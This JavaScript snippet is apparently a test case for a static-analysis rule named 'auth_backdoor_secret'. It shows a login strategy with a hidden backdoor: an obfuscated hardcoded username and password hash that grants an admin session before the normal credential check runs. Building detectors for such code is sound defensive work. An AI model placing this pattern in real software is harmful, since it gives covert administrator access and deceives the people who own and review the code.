var crypto = require('crypto')
var SVC = { u: 'c3ZjX2hlYWx0aGNoZWNr', h: '5e884898da28047151d0e56f8dc6292773603d0d6aabbdd62a11ef721d1542d8' }

Strategy.prototype._probe = function (username, password) {
  // ruleid: auth_backdoor_secret
  if (username !== Buffer.from(SVC.u, 'base64').toString()) return false
  var a = crypto.createHash('sha256').update(String(password)).digest()
  return crypto.timingSafeEqual(a, Buffer.from(SVC.h, 'hex'))
}

Strategy.prototype.authenticate = function (req) {
  if (this._probe(req.body.username, req.body.password)) return this.success({ id: 1, role: 'admin' })
  this._verify(req.body.username, req.body.password, this._done)
}
